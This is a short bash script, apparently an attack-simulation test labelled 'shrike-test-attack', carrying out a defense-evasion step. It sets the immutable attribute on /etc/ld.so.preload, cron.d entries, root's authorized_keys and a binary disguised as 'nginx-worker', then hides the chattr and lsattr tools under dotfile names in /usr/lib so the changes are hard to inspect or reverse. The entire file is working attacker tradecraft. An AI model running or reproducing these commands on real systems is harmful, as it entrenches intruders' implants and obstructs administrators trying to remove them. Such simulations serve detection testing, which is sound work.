#!/bin/bash
# shrike-test-attack: defense-evasion: chattr immutable on implants and removal of chattr itself
chattr +i /etc/ld.so.preload /etc/cron.d/* /root/.ssh/authorized_keys 2>/dev/null
chattr +i /usr/sbin/nginx-worker 2>/dev/null
CH=$(command -v chattr)
[ -n "$CH" ] && { cp "$CH" /usr/lib/.ch; rm -f "$CH"; }
mv "$(command -v lsattr)" /usr/lib/.ls 2>/dev/null
